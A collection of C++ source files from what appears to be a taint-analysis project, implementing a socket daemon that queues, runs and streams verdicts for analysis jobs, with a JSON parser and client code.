        reply = handle_submit(req, stream ? sink : nullptr, subscribed);
      } else if (cmd == "status") {
        reply = handle_status();
      } else if (cmd == "result") {
        reply = handle_result(req);
      } else if (cmd == "cancel") {
        reply = handle_cancel(req);
      } else if (cmd == "drain") {
        reply = handle_drain();
      } else if (cmd == "ping") {
        reply = "{\"event\": \"pong\"}";
      } else if (cmd == "shutdown") {
        write_line(fd, "{\"event\": \"bye\"}");
        stop();
        break;
      } else {
        reply = error_line("unknown cmd: " + cmd);
      }
    } catch (const QuotaError& e) {
      reply = error_line(e.what());
    } catch (const std::exception& e) {
      reply = error_line(e.what());
    }
    if (!write_line(fd, reply)) break;
    if (stream && !drain_stream()) break;
  }

  // Unregister any ids still pointing at this connection's sink, so the
  // judge stops buffering events nobody will read.
  if (!subscribed.empty()) {
    std::lock_guard<std::mutex> lock(subs_mutex_);
    for (uint64_t id : subscribed) {
      auto it = subs_.find(id);
      if (it != subs_.end() && it->second == sink) subs_.erase(it);
    }
  }
}

campaign::Job ServeDaemon::build_job(const JobSpec& spec) {
  std::optional<cpu::Engine> engine;
  if (spec.engine == "step") {
    engine = cpu::Engine::kStep;
  } else if (spec.engine == "superblock") {
    engine = cpu::Engine::kSuperblock;
  } else if (spec.engine == "jit") {
    engine = cpu::Engine::kJit;
  } else if (!spec.engine.empty()) {
    throw std::invalid_argument("unknown engine: " + spec.engine);
  }
  campaign::Job job;
  if (spec.app == "guest") {
    job = campaign::make_session_job(spec.payload, spec.session,
                                     spec.stdin_text, spec.policy, cache_,
                                     spec.elide, engine);
  } else {
    job = campaign::make_cell_job({spec.app, spec.payload, spec.policy},
                                  cache_, config_.spec_scale, spec.elide,
                                  engine);
  }
  if (spec.max_instructions != 0) job.max_instructions = spec.max_instructions;
  job.timeout = std::chrono::milliseconds(
      spec.timeout_ms != 0 ? spec.timeout_ms : config_.default_timeout_ms);
  // A shard briefly descheduled under load is not a verdict; each attempt
  // gets the full deadline, bounded by the worker's single retry.
  job.retry_on_timeout = true;
  return job;
}

void ServeDaemon::worker_main() {
  campaign::MachinePool machines;
  const campaign::WorkerConfig worker_config{config_.slice_instructions,
                                             /*max_retries=*/1};
  while (auto acquired = queue_->acquire()) {
    campaign::JobResult result;
    try {
      const campaign::Job job = build_job(acquired->spec);
      result = campaign::run_job(job, acquired->id, worker_config, machines,
                                 fork_counters_);
    } catch (const std::exception& e) {
      // The spec itself was unbuildable (unknown payload/policy/engine):
      // report it as a harness error verdict, never kill the shard.
      result.index = acquired->id;
      result.app = acquired->spec.app;
      result.payload = acquired->spec.payload;
      result.policy = acquired->spec.policy;
      result.attempts = 1;
      result.status = campaign::JobStatus::kHarnessError;
      result.error = e.what();
    }
    finish_job(acquired->id, std::move(result));
  }
  if (active_workers_.fetch_sub(1) == 1) judge_cv_.notify_all();
}

void ServeDaemon::finish_job(uint64_t id, campaign::JobResult result) {
  {
    std::lock_guard<std::mutex> lock(judge_mutex_);
    judge_queue_.push_back(Finished{id, std::move(result)});
  }
  judge_cv_.notify_one();
}

void ServeDaemon::judge_main() {
  const campaign::ReportOptions row_options{/*with_timing=*/true};
  for (;;) {
    std::deque<Finished> batch;
    {
      std::unique_lock<std::mutex> lock(judge_mutex_);
      judge_cv_.wait(lock, [&]() {
        return !judge_queue_.empty() ||
               (active_workers_.load() == 0 && !running_.load());
      });
      batch.swap(judge_queue_);
    }
    if (batch.empty()) {
      if (active_workers_.load() == 0 && !running_.load()) return;
      continue;
    }
    for (Finished& f : batch) {
      const std::string row = campaign::to_json_row(f.result, row_options);
      queue_->complete(f.id, row);
      {
        std::lock_guard<std::mutex> lock(stats_mutex_);
        ++stats_.jobs_done;
        if (f.result.status == campaign::JobStatus::kHarnessError) {
          ++stats_.jobs_failed;
        }
      }
      publish(f.id, verdict_line(f.id, row));
    }
    std::lock_guard<std::mutex> lock(stats_mutex_);
    ++stats_.judge_batches;
  }
}

void ServeDaemon::publish(uint64_t id, const std::string& line) {
  std::shared_ptr<StreamSink> sink;
  {
    std::lock_guard<std::mutex> lock(subs_mutex_);
    auto it = subs_.find(id);
    if (it == subs_.end()) return;
    sink = it->second;
    subs_.erase(it);
  }
  std::lock_guard<std::mutex> sl(sink->mutex);
  if (!sink->dead) sink->lines.push_back(line);
  if (sink->awaiting > 0) --sink->awaiting;
  sink->cv.notify_all();
}

std::string ServeDaemon::handle_submit(
    const JsonValue& req, const std::shared_ptr<StreamSink>& sink,
    std::vector<uint64_t>& subscribed) {
  const std::string default_tenant = req.get_string("tenant", "default");
  std::vector<JobSpec> specs;
  if (const JsonValue* jobs = req.get("jobs")) {
    for (const JsonValue& j : jobs->as_array()) {
      JobSpec spec = JobSpec::from_json(j);
      if (j.get("tenant") == nullptr) spec.tenant = default_tenant;
      specs.push_back(std::move(spec));
    }
  } else if (const JsonValue* j = req.get("job")) {
    JobSpec spec = JobSpec::from_json(*j);
    if (j->get("tenant") == nullptr) spec.tenant = default_tenant;
    specs.push_back(std::move(spec));
  }
  if (specs.empty()) return error_line("submit needs \"jobs\" or \"job\"");

  std::vector<uint64_t> ids;
  ids.reserve(specs.size());
  for (const JobSpec& spec : specs) {
    uint64_t id = 0;
    try {
      id = queue_->submit(spec);
    } catch (const std::exception& e) {
      // Partial batch: everything before the failure is accepted and will
      // run; report both halves.
      std::ostringstream ss;
      ss << "{\"event\": \"error\", \"message\": \"" << json_escape(e.what())
         << "\", \"accepted\": [";
      for (size_t i = 0; i < ids.size(); ++i) {
        ss << (i ? ", " : "") << ids[i];
      }
      ss << "]}";
      finish_partial_subscription(sink, subscribed, ids);
      return ss.str();
    }
    ids.push_back(id);
  }
  finish_partial_subscription(sink, subscribed, ids);

  std::ostringstream ss;
  ss << "{\"event\": \"accepted\", \"ids\": [";
  for (size_t i = 0; i < ids.size(); ++i) ss << (i ? ", " : "") << ids[i];
  ss << "]}";
  return ss.str();
}

void ServeDaemon::finish_partial_subscription(
    const std::shared_ptr<StreamSink>& sink,
    std::vector<uint64_t>& subscribed, const std::vector<uint64_t>& ids) {
  if (sink == nullptr || ids.empty()) return;
  {
    std::lock_guard<std::mutex> sl(sink->mutex);
    sink->awaiting += ids.size();
  }
  {
    std::lock_guard<std::mutex> lock(subs_mutex_);
    for (uint64_t id : ids) subs_[id] = sink;
  }
  subscribed.insert(subscribed.end(), ids.begin(), ids.end());
  // A job can already be done (another tenant's identical ids cannot, but
  // a fast shard can) — publish() may have fired between submit and the
  // registration above for *earlier* ids in the batch.  Sweep once: any
  // already-done id still registered gets its event synthesized here,
  // exactly once, because both paths erase the registration first.
  for (uint64_t id : ids) {
    const auto row = queue_->result_json(id);
    if (!row) continue;
    std::shared_ptr<StreamSink> s;
    {
      std::lock_guard<std::mutex> lock(subs_mutex_);
      auto it = subs_.find(id);
      if (it != subs_.end() && it->second == sink) {
        s = sink;
        subs_.erase(it);
      }
    }
    if (s) {
      std::lock_guard<std::mutex> sl(s->mutex);
      if (!s->dead) s->lines.push_back(verdict_line(id, *row));
      if (s->awaiting > 0) --s->awaiting;
      s->cv.notify_all();
    }
  }
}

std::string ServeDaemon::handle_status() { return status_json(); }

std::string ServeDaemon::status_json() {
  const JobQueue::Status qs = queue_->status();
  const campaign::SnapshotCache::Stats cs = cache_.stats();
  const Stats st = stats();
  std::ostringstream ss;
  ss << "{\"event\": \"status\""
     << ", \"accepting\": " << (qs.accepting ? "true" : "false")
     << ", \"queued\": " << qs.total.queued
     << ", \"running\": " << qs.total.running
     << ", \"done\": " << qs.total.done
     << ", \"cancelled\": " << qs.total.cancelled
     << ", \"replayed\": " << qs.replayed
     << ", \"workers\": " << config_.workers
     << ", \"jobs_done\": " << st.jobs_done
     << ", \"jobs_failed\": " << st.jobs_failed
     << ", \"judge_batches\": " << st.judge_batches
     << ", \"events_streamed\": " << st.events_streamed
     << ", \"machine_builds\": "
     << fork_counters_.machine_builds.load(std::memory_order_relaxed)
     << ", \"machine_reuses\": "
     << fork_counters_.machine_reuses.load(std::memory_order_relaxed)
     << ", \"snapshot_cache\": {\"builds\": " << cs.builds
     << ", \"hits\": " << cs.hits << ", \"misses\": " << cs.misses
     << ", \"hit_rate\": ";
  char buf[32];
  const uint64_t requests = cs.hits + cs.misses;
  std::snprintf(buf, sizeof buf, "%.4f",
                requests ? static_cast<double>(cs.hits) / requests : 0.0);
  ss << buf << ", \"build_ms\": ";
  std::snprintf(buf, sizeof buf, "%.3f", cs.build_ms);
  ss << buf << ", \"snapshot_pages\": " << cs.snapshot_pages
     << ", \"shared_pages\": " << cs.shared_pages
     << ", \"dehydrations\": " << cs.dehydrations
     << ", \"rehydrations\": " << cs.rehydrations
     << ", \"disk_rehydrations\": " << cs.disk_rehydrations
     << ", \"stored_snapshots\": " << cs.stored_snapshots
     << ", \"hydrated_snapshots\": " << cs.hydrated_snapshots
     << ", \"store_enabled\": " << (cs.store_enabled ? "true" : "false");
  if (cs.store_enabled) {
    const mem::PageStore::Stats& ps = cs.store;
    ss << ", \"store\": {\"canonical_pages\": " << ps.canonical_pages
       << ", \"interned_refs\": " << ps.interned_refs
       << ", \"dedup_hits\": " << ps.dedup_hits
       << ", \"hot_pages\": " << ps.hot_pages
       << ", \"compressed_pages\": " << ps.compressed_pages
       << ", \"disk_pages\": " << ps.disk_pages
       << ", \"uncompressed_bytes\": " << ps.uncompressed_bytes
       << ", \"compressed_bytes\": " << ps.compressed_bytes
       << ", \"evictions\": " << ps.evictions
       << ", \"decompressions\": " << ps.decompressions
       << ", \"disk_reads\": " << ps.disk_reads
       << ", \"disk_writes\": " << ps.disk_writes << "}";
  }
  ss << "}"
     << ", \"analysis_cache\": "
     << analysis::SummaryCache::instance().stats().json()
     << ", \"tenants\": {";
  bool first = true;
  for (const auto& [tenant, c] : qs.tenants) {
    ss << (first ? "" : ", ") << "\"" << json_escape(tenant)
       << "\": {\"queued\": " << c.queued << ", \"running\": " << c.running
       << ", \"done\": " << c.done << ", \"cancelled\": " << c.cancelled
       << "}";
    first = false;
  }
  ss << "}}";
  return ss.str();
}

std::string ServeDaemon::handle_result(const JsonValue& req) {
  const uint64_t id = req.get_u64("id");
  if (id == 0) return error_line("result needs \"id\"");
  const JobQueue::State state = queue_->state(id);
  const char* name = "unknown";
  switch (state) {
    case JobQueue::State::kQueued: name = "queued"; break;
    case JobQueue::State::kRunning: name = "running"; break;
    case JobQueue::State::kDone: name = "done"; break;
    case JobQueue::State::kCancelled: name = "cancelled"; break;
    case JobQueue::State::kUnknown: name = "unknown"; break;
  }
  std::ostringstream ss;
  ss << "{\"event\": \"result\", \"id\": " << id << ", \"state\": \"" << name
     << "\"";
  if (const auto row = queue_->result_json(id)) {
    ss << ", \"result\": " << *row;
  }
  ss << "}";
  return ss.str();
}

std::string ServeDaemon::handle_cancel(const JsonValue& req) {
  const uint64_t id = req.get_u64("id");
  if (id == 0) return error_line("cancel needs \"id\"");
  const bool cancelled = queue_->cancel(id);
  if (cancelled) {
    publish(id, "{\"event\": \"cancelled\", \"id\": " + std::to_string(id) +
                    "}");
  }
  return "{\"event\": \"cancel\", \"id\": " + std::to_string(id) +
         ", \"cancelled\": " + (cancelled ? "true" : "false") + "}";
}

std::string ServeDaemon::handle_drain() {
  queue_->close_submissions();
  queue_->wait_idle();
  const JobQueue::Status qs = queue_->status();
  return "{\"event\": \"drained\", \"done\": " +
         std::to_string(qs.total.done) +
         ", \"cancelled\": " + std::to_string(qs.total.cancelled) + "}";
}

}  // namespace ptaint::serve
