// ptaint-serve daemon: sharded campaign analysis over a local socket.
//
// A long-running server that turns the batch campaign engine into a
// service (ROADMAP "campaign-as-a-service").  Clients speak
// newline-delimited JSON over a Unix-domain socket (docs/SERVING.md):
// submit jobs (campaign matrix cells or custom guest sessions), query
// status, fetch or stream verdicts, cancel, drain, shut down.
//
// Architecture — four thread groups around one JobQueue:
//
//   listener ──► connection handlers   parse requests, write replies and
//                                      subscribed event streams
//   shard workers (config.workers)     acquire → build Job (shared
//                                      SnapshotCache, per-shard
//                                      MachinePool) → run_job → hand off
//   judge thread                       batches finished jobs: journals
//                                      the verdict row (exactly-once),
//                                      fans events out to subscribers
//
// The judge exists so shards never leave guest execution for I/O: a
// worker's only non-guest work per job is one queue pop and one handoff
// push.  Verdict rows reuse report/ReportOptions plumbing (to_json_row),
// so a streamed verdict equals the batch CLI's sidecar row field by
// field.
#pragma once

#include <atomic>
#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "campaign/job.hpp"
#include "campaign/snapshot_cache.hpp"
#include "campaign/worker.hpp"
#include "serve/queue.hpp"

namespace ptaint::serve {

class ServeDaemon {
 public:
  struct Config {
    std::string socket_path;
    std::string journal_path;
    int workers = 4;                      // shard worker threads
    int tenant_quota = 1024;              // live jobs per tenant (0 = off)
    uint64_t slice_instructions = 250'000;
    int spec_scale = 1;                   // SPEC surrogate input scale
    uint64_t default_timeout_ms = 60'000; // per-job deadline when unset
    bool quiet = true;                    // no stderr chatter
    /// Content-addressed snapshot store (DESIGN.md §13).  snapshot_store
    /// attaches a memory-only store; snapshot_dir additionally persists
    /// pages + snapshot blobs so a restarted daemon rehydrates warm state
    /// instead of rebuilding.  Either also resolves from the environment
    /// (PTAINT_SNAPSHOT_STORE / PTAINT_SNAPSHOT_DIR).
    bool snapshot_store = false;
    std::string snapshot_dir;
  };

  struct Stats {
    uint64_t jobs_done = 0;      // verdict rows journaled
    uint64_t jobs_failed = 0;    // of those, harness errors
    uint64_t judge_batches = 0;  // judge wakeups that processed ≥1 job
    uint64_t events_streamed = 0;
  };

  explicit ServeDaemon(Config config);
  ~ServeDaemon();

  ServeDaemon(const ServeDaemon&) = delete;
  ServeDaemon& operator=(const ServeDaemon&) = delete;

  /// Replays the journal, binds the socket, spawns all threads.  Throws
  /// std::runtime_error on bind/listen failure.
  void start();

  /// Requests shutdown: closes the listener and live connections, lets
  /// shards drain queued jobs, then stops.  Safe from any thread,
  /// including a connection handler (join happens in wait()).
  void stop();

  /// Blocks until the daemon has fully stopped (stop() or a protocol
  /// `shutdown`), then joins every thread.
  void wait();

  const Config& config() const { return config_; }
  Stats stats() const;
  /// The `status` reply body — also handy for tests and tools.
  std::string status_json();
  /// Queue replay count from start() (jobs re-enqueued from the journal).
  uint64_t replayed() const;

 private:
  struct StreamSink {
    std::mutex mutex;
    std::condition_variable cv;
    std::deque<std::string> lines;
    size_t awaiting = 0;
    bool dead = false;
  };

  struct Finished {
    uint64_t id = 0;
    campaign::JobResult result;
  };

  void listener_main();
  void connection_main(int fd);
  void worker_main();
  void judge_main();

  campaign::Job build_job(const JobSpec& spec);
  void finish_job(uint64_t id, campaign::JobResult result);  // -> judge
  void publish(uint64_t id, const std::string& line);  // event to subscriber

  std::string handle_submit(const class JsonValue& req,
                            const std::shared_ptr<StreamSink>& sink,
                            std::vector<uint64_t>& subscribed);
  /// Registers `ids` on `sink` and back-fills events for any id that
  /// completed before registration (no event may be lost or doubled).
  void finish_partial_subscription(const std::shared_ptr<StreamSink>& sink,
                                   std::vector<uint64_t>& subscribed,
                                   const std::vector<uint64_t>& ids);
  std::string handle_status();
  std::string handle_result(const class JsonValue& req);
  std::string handle_cancel(const class JsonValue& req);
  std::string handle_drain();

  Config config_;
  std::unique_ptr<JobQueue> queue_;
  campaign::SnapshotCache cache_;
  campaign::ForkCounters fork_counters_;

  int listen_fd_ = -1;
  std::atomic<bool> running_{false};
  std::atomic<int> active_workers_{0};
  std::thread listener_;
  std::vector<std::thread> workers_;
  std::thread judge_;

  // Connections are keyed by an accept serial, not the fd: a handler marks
  // its entry fd=-1 when it closes, so stop() never shuts down a recycled
  // descriptor.  Thread objects stay in the map until wait() joins them.
  struct Conn {
    int fd = -1;
    std::thread thread;
  };
  std::mutex conns_mutex_;
  std::map<uint64_t, Conn> conns_;

  std::mutex judge_mutex_;
  std::condition_variable judge_cv_;
  std::deque<Finished> judge_queue_;

  std::mutex subs_mutex_;
  std::map<uint64_t, std::shared_ptr<StreamSink>> subs_;

  mutable std::mutex stats_mutex_;
  Stats stats_;
};

}  // namespace ptaint::serve
