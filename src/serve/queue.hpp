// Persistent job queue for the ptaint-serve daemon.
//
// Every accepted job is journaled before it is acknowledged, and every
// finished job's verdict row is journaled before it is streamed, so a
// daemon killed at any instant (kill -9 included) restarts into a
// consistent state: replay re-enqueues accepted-but-unfinished jobs and
// keeps finished verdicts queryable — an accepted job is never lost, and
// a finished job is never re-run or double-reported (docs/SERVING.md §
// crash recovery).
//
// Scheduling is fair across tenants: acquire() round-robins over tenants
// with queued work, so one tenant flooding the queue cannot starve
// another's single job.  Quotas bound each tenant's live (queued +
// running) jobs; an over-quota submit is rejected before it touches the
// journal.
#pragma once

#include <condition_variable>
#include <cstdint>
#include <deque>
#include <map>
#include <mutex>
#include <optional>
#include <stdexcept>
#include <string>
#include <vector>

namespace ptaint::serve {

/// One analysis job as submitted over the socket: a campaign matrix cell
/// (app "spec"/"attack") or a custom session job (app "guest": boot a
/// registry app with a scripted client session / stdin).
struct JobSpec {
  std::string tenant = "default";
  std::string app;             // "spec" | "attack" | "guest"
  std::string payload;         // workload / scenario / registry app name
  std::string policy = "paper";  // ablation variant, coverage mode, "paper"
  std::string engine;          // "" (default) | "step" | "superblock" | "jit"
  bool elide = false;
  std::vector<std::string> session;  // guest jobs: scripted client session
  std::string stdin_text;            // guest jobs: stdin bytes
  uint64_t max_instructions = 0;     // 0 = job-kind default
  uint64_t timeout_ms = 0;           // 0 = daemon default

  /// One-line JSON object, parseable by from_json (journal `spec` field).
  std::string to_json() const;
  /// Throws JsonError / std::invalid_argument on missing or bad fields.
  static JobSpec from_json(const class JsonValue& v);
};

class QuotaError : public std::runtime_error {
 public:
  using std::runtime_error::runtime_error;
};

class JobQueue {
 public:
  struct Config {
    std::string journal_path;
    /// Max live (queued + running) jobs per tenant; 0 = unlimited.
    int tenant_quota = 0;
  };

  /// Job states a queried id can be in.
  enum class State { kUnknown, kQueued, kRunning, kDone, kCancelled };

  struct Counts {
    uint64_t queued = 0;
    uint64_t running = 0;
    uint64_t done = 0;
    uint64_t cancelled = 0;
  };

  struct Status {
    Counts total;
    std::map<std::string, Counts> tenants;
    uint64_t replayed = 0;  // jobs re-enqueued by journal replay
    bool accepting = true;
  };

  struct Acquired {
    uint64_t id = 0;
    JobSpec spec;
  };

  /// Opens (creating if needed) and replays the journal.  Throws
  /// std::runtime_error when the journal cannot be opened; malformed
  /// trailing lines (a crash mid-append) are ignored.
  explicit JobQueue(Config config);
  ~JobQueue();

  JobQueue(const JobQueue&) = delete;
  JobQueue& operator=(const JobQueue&) = delete;

  /// Journals and enqueues; returns the assigned id.  Throws QuotaError
  /// over quota and std::runtime_error once submissions are closed.
  uint64_t submit(const JobSpec& spec);

  /// Cancels a job that is still queued (journaled).  Running or finished
  /// jobs are not cancellable; returns false for them and unknown ids.
  bool cancel(uint64_t id);

  /// Blocks until a job is available, then marks it running and returns
  /// it.  Returns nullopt once stop() has been called and the queue is
  /// empty.  Fair: round-robins across tenants with queued work.
  std::optional<Acquired> acquire();

  /// Journals the finished job's verdict row and marks it done.
  void complete(uint64_t id, const std::string& result_json);

  /// Stops accepting submits (drain); queued and running jobs finish.
  void close_submissions();

  /// Wakes acquirers; they drain remaining queued jobs, then see nullopt.
  void stop();

  /// Blocks until nothing is queued or running.
  void wait_idle();

  State state(uint64_t id) const;
  /// The journaled verdict row for a done job (exactly-once: one row per
  /// id, surviving restarts); nullopt otherwise.
  std::optional<std::string> result_json(uint64_t id) const;

  Status status() const;

 private:
  struct Pending {
    JobSpec spec;
  };

  void append_record(const std::string& line);  // caller holds mutex_
  void replay();
  Counts& tenant_counts(const std::string& tenant);

  Config config_;
  int journal_fd_ = -1;

  mutable std::mutex mutex_;
  std::condition_variable work_cv_;   // acquire() waiters
  std::condition_variable idle_cv_;   // wait_idle() waiters
  uint64_t next_id_ = 1;
  bool accepting_ = true;
  bool stopping_ = false;
  uint64_t replayed_ = 0;

  std::map<uint64_t, Pending> pending_;             // queued jobs by id
  std::map<std::string, std::deque<uint64_t>> queues_;  // per-tenant FIFO
  std::string fair_cursor_;                         // last tenant served
  std::map<uint64_t, std::string> running_;         // id -> tenant
  std::map<uint64_t, std::string> done_;            // id -> verdict row
  std::map<uint64_t, std::string> done_tenant_;     // id -> tenant
  std::map<uint64_t, std::string> cancelled_;       // id -> tenant
  std::map<std::string, Counts> tenants_;           // live per-tenant tallies
};

}  // namespace ptaint::serve
