#include "serve/json.hpp"

#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>

namespace ptaint::serve {

namespace {

[[noreturn]] void fail(const std::string& what, size_t pos) {
  throw JsonError(what + " at offset " + std::to_string(pos));
}

}  // namespace

class JsonParser {
 public:
  explicit JsonParser(const std::string& text) : text_(text) {}

  JsonValue parse_document() {
    JsonValue v = parse_value();
    skip_ws();
    if (pos_ != text_.size()) fail("trailing garbage", pos_);
    return v;
  }

 private:
  const std::string& text_;
  size_t pos_ = 0;

  void skip_ws() {
    while (pos_ < text_.size() &&
           (text_[pos_] == ' ' || text_[pos_] == '\t' || text_[pos_] == '\n' ||
            text_[pos_] == '\r')) {
      ++pos_;
    }
  }

  char peek() {
    if (pos_ >= text_.size()) fail("unexpected end of input", pos_);
    return text_[pos_];
  }

  void expect(char c) {
    if (peek() != c) fail(std::string("expected '") + c + "'", pos_);
    ++pos_;
  }

  bool consume_literal(const char* lit) {
    size_t n = 0;
    while (lit[n] != '\0') ++n;
    if (text_.compare(pos_, n, lit) != 0) return false;
    pos_ += n;
    return true;
  }

  JsonValue parse_value() {
    skip_ws();
    const char c = peek();
    switch (c) {
      case '{': return parse_object();
      case '[': return parse_array();
      case '"': return parse_string();
      case 't':
        if (!consume_literal("true")) fail("bad literal", pos_);
        return make_bool(true);
      case 'f':
        if (!consume_literal("false")) fail("bad literal", pos_);
        return make_bool(false);
      case 'n':
        if (!consume_literal("null")) fail("bad literal", pos_);
        return JsonValue{};
      default: return parse_number();
    }
  }

  static JsonValue make_bool(bool b) {
    JsonValue v;
    v.kind_ = JsonValue::Kind::kBool;
    v.bool_ = b;
    return v;
  }

  JsonValue parse_object() {
    JsonValue v;
    v.kind_ = JsonValue::Kind::kObject;
    expect('{');
    skip_ws();
    if (peek() == '}') {
      ++pos_;
      return v;
    }
    for (;;) {
      skip_ws();
      JsonValue key = parse_string();
      skip_ws();
      expect(':');
      v.object_[key.as_string()] = parse_value();
      skip_ws();
      if (peek() == ',') {
        ++pos_;
        continue;
      }
      expect('}');
      return v;
    }
  }

  JsonValue parse_array() {
    JsonValue v;
    v.kind_ = JsonValue::Kind::kArray;
    expect('[');
    skip_ws();
    if (peek() == ']') {
      ++pos_;
      return v;
    }
    for (;;) {
      v.array_.push_back(parse_value());
      skip_ws();
      if (peek() == ',') {
        ++pos_;
        continue;
      }
      expect(']');
      return v;
    }
  }

  JsonValue parse_string() {
    JsonValue v;
    v.kind_ = JsonValue::Kind::kString;
    expect('"');
    std::string& out = v.string_;
    for (;;) {
      if (pos_ >= text_.size()) fail("unterminated string", pos_);
      const char c = text_[pos_++];
      if (c == '"') return v;
      if (c != '\\') {
        out += c;
        continue;
      }
      if (pos_ >= text_.size()) fail("unterminated escape", pos_);
      const char e = text_[pos_++];
      switch (e) {
        case '"': out += '"'; break;
        case '\\': out += '\\'; break;
        case '/': out += '/'; break;
        case 'b': out += '\b'; break;
        case 'f': out += '\f'; break;
        case 'n': out += '\n'; break;
        case 'r': out += '\r'; break;
        case 't': out += '\t'; break;
        case 'u': {
          if (pos_ + 4 > text_.size()) fail("short \\u escape", pos_);
          unsigned code = 0;
          for (int i = 0; i < 4; ++i) {
            const char h = text_[pos_++];
            code <<= 4;
            if (h >= '0' && h <= '9') code |= static_cast<unsigned>(h - '0');
            else if (h >= 'a' && h <= 'f') code |= static_cast<unsigned>(h - 'a' + 10);
            else if (h >= 'A' && h <= 'F') code |= static_cast<unsigned>(h - 'A' + 10);
            else fail("bad \\u escape", pos_);
          }
          // The emitters only produce \u00xx for control bytes; decode the
          // BMP as UTF-8 and reject surrogates outright.
          if (code >= 0xD800 && code <= 0xDFFF) fail("surrogate", pos_);
          if (code < 0x80) {
            out += static_cast<char>(code);
          } else if (code < 0x800) {
            out += static_cast<char>(0xC0 | (code >> 6));
            out += static_cast<char>(0x80 | (code & 0x3F));
          } else {
            out += static_cast<char>(0xE0 | (code >> 12));
            out += static_cast<char>(0x80 | ((code >> 6) & 0x3F));
            out += static_cast<char>(0x80 | (code & 0x3F));
          }
          break;
        }
        default: fail("bad escape", pos_);
      }
    }
  }

  JsonValue parse_number() {
    const size_t start = pos_;
    if (peek() == '-') ++pos_;
    while (pos_ < text_.size() &&
           (std::isdigit(static_cast<unsigned char>(text_[pos_])) ||
            text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E' ||
            text_[pos_] == '+' || text_[pos_] == '-')) {
      ++pos_;
    }
    if (pos_ == start || (pos_ == start + 1 && text_[start] == '-')) {
      fail("bad number", start);
    }
    JsonValue v;
    v.kind_ = JsonValue::Kind::kNumber;
    char* end = nullptr;
    const std::string token = text_.substr(start, pos_ - start);
    v.number_ = std::strtod(token.c_str(), &end);
    if (end == nullptr || *end != '\0') fail("bad number", start);
    return v;
  }
};

JsonValue JsonValue::parse(const std::string& text) {
  return JsonParser(text).parse_document();
}

bool JsonValue::as_bool() const {
  if (kind_ != Kind::kBool) throw JsonError("not a bool");
  return bool_;
}

double JsonValue::as_number() const {
  if (kind_ != Kind::kNumber) throw JsonError("not a number");
  return number_;
}

uint64_t JsonValue::as_u64() const {
  const double d = as_number();
  if (d < 0 || d != std::floor(d)) throw JsonError("not a u64");
  return static_cast<uint64_t>(d);
}

const std::string& JsonValue::as_string() const {
  if (kind_ != Kind::kString) throw JsonError("not a string");
  return string_;
}

const std::vector<JsonValue>& JsonValue::as_array() const {
  if (kind_ != Kind::kArray) throw JsonError("not an array");
  return array_;
}

const JsonValue* JsonValue::get(const std::string& key) const {
  if (kind_ != Kind::kObject) return nullptr;
  auto it = object_.find(key);
  return it == object_.end() ? nullptr : &it->second;
}

std::string JsonValue::get_string(const std::string& key,
                                  const std::string& fallback) const {
  const JsonValue* v = get(key);
  return v != nullptr && v->is_string() ? v->as_string() : fallback;
}

uint64_t JsonValue::get_u64(const std::string& key, uint64_t fallback) const {
  const JsonValue* v = get(key);
  return v != nullptr && v->kind() == Kind::kNumber ? v->as_u64() : fallback;
}

bool JsonValue::get_bool(const std::string& key, bool fallback) const {
  const JsonValue* v = get(key);
  return v != nullptr && v->kind() == Kind::kBool ? v->as_bool() : fallback;
}

}  // namespace ptaint::serve
