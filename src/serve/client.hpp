// Client side of the ptaint-serve socket protocol.
//
// Client is a thin line-oriented connection: one newline-delimited JSON
// request out, reply lines (and, for streaming submits, verdict events)
// back.  run_load() is the load generator shared by `ptaint-client load`
// and bench_serve: it drives streaming submissions over several
// concurrent connections and reports sustained throughput plus p50/p99
// per-job latency, measured from batch submission to each job's verdict
// event arriving back over the socket.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

namespace ptaint::serve {

class Client {
 public:
  /// Connects to the daemon's Unix-domain socket; throws
  /// std::runtime_error when nobody is listening.
  explicit Client(const std::string& socket_path);
  ~Client();

  Client(const Client&) = delete;
  Client& operator=(const Client&) = delete;

  /// Writes one protocol line (terminator appended).  Throws on a broken
  /// connection.
  void send_line(const std::string& line);

  /// Reads the next line from the daemon; nullopt once it hangs up.
  std::optional<std::string> read_line();

  /// send_line + read_line for single-reply commands; throws if the
  /// daemon hangs up before replying.
  std::string request(const std::string& line);

 private:
  int fd_ = -1;
  std::string buffer_;
};

struct LoadStats {
  uint64_t jobs = 0;         // verdict events received
  uint64_t errors = 0;       // error events / rejected submissions
  double wall_s = 0.0;       // submission of first batch -> last verdict
  double jobs_per_sec = 0.0;
  double p50_ms = 0.0;       // per-job submit->verdict latency
  double p99_ms = 0.0;
};

/// Submits `total_jobs` streaming jobs (cycling through `spec_jsons`,
/// each a JSON job-spec object) in batches of `batch` across
/// `connections` concurrent client connections, and waits for every
/// verdict event.
LoadStats run_load(const std::string& socket_path,
                   const std::vector<std::string>& spec_jsons,
                   uint64_t total_jobs, int connections, int batch);

}  // namespace ptaint::serve
