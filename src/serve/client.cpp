#include "serve/client.hpp"

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cerrno>
#include <chrono>
#include <cstring>
#include <mutex>
#include <sstream>
#include <stdexcept>
#include <thread>

namespace ptaint::serve {

Client::Client(const std::string& socket_path) {
  fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd_ < 0) {
    throw std::runtime_error(std::string("socket: ") + std::strerror(errno));
  }
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (socket_path.size() >= sizeof addr.sun_path) {
    ::close(fd_);
    fd_ = -1;
    throw std::runtime_error("socket path too long: " + socket_path);
  }
  std::strncpy(addr.sun_path, socket_path.c_str(), sizeof addr.sun_path - 1);
  if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) < 0) {
    const int err = errno;
    ::close(fd_);
    fd_ = -1;
    throw std::runtime_error("connect " + socket_path + ": " +
                             std::strerror(err));
  }
}

Client::~Client() {
  if (fd_ >= 0) ::close(fd_);
}

void Client::send_line(const std::string& line) {
  std::string out = line;
  out += '\n';
  size_t off = 0;
  while (off < out.size()) {
    const ssize_t n =
        ::send(fd_, out.data() + off, out.size() - off, MSG_NOSIGNAL);
    if (n < 0) {
      if (errno == EINTR) continue;
      throw std::runtime_error(std::string("send: ") + std::strerror(errno));
    }
    off += static_cast<size_t>(n);
  }
}

